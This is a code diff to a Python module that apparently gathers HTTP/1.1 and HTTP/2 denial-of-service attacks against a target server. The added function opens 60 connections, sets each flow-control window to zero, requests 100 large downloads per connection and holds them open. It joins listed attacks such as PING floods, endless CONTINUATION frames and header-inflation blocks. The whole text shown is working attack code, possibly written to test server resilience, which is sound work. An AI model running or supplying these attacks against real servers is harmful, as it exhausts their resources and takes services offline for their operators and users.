@@ -6,6 +6,7 @@ Each on a server of its own that has served a little before; what it holds more 
 from __future__ import annotations
 
 import contextlib
+import time
 from collections.abc import Callable, Iterator
 from itertools import islice
 from pathlib import Path
@@ -18,6 +19,10 @@ import http2_peer as wire  # isort: skip  # which target.py has found
 MIB = 1024 * 1024
 PUSHED = 200 * MIB
 STREAMS = 100
+CONNECTIONS = 60
+STAY = 4.0
+"""Seconds that who takes nothing stays: longer than it takes to be noticed."""
+
 QUIET = 0.5
 """Seconds without a word from the server after which it gives no further credit."""
 
@@ -98,10 +103,23 @@ def inflating_block(target: Target) -> int:
     return 50 * 4_000 * 4_000
 
 
+def windows_of_zero(target: Target) -> int:
+    """Ask on many connections at once, let nothing through, and stay."""
+    block = hostile._block("GET", "/download?size=50000000")
+    heads = b"".join(hostile._head(stream_id, block) for stream_id in hostile.IDS[:STREAMS])
+    begin = wire.PREFACE + wire.settings((wire.INITIAL_WINDOW_SIZE, 0)) + wire.SETTINGS_ACK
+    with contextlib.ExitStack() as stack:
+        for _ in range(CONNECTIONS):
+            stack.enter_context(hostile.connected(target, "h2")).sendall(begin + heads)
+        time.sleep(STAY)
+    return CONNECTIONS * STREAMS * 50_000_000
+
+
 ATTACKS: dict[str, Callable[[Target], int]] = {
     "pushed at an application that never reads, HTTP/1.1": push_over_http1,
     "pushed at an application that never reads, HTTP/2": push_over_http2,
     "100 streams of 50 MB with a window of 1": window_of_one,
+    "the same with a window of 0 on 60 connections": windows_of_zero,
     "100,000 PINGs, answers unread": pings,
     "endless CONTINUATION": endless_continuation,
     "4 KB of fields that inflate to 16 MB, 50 times": inflating_block,
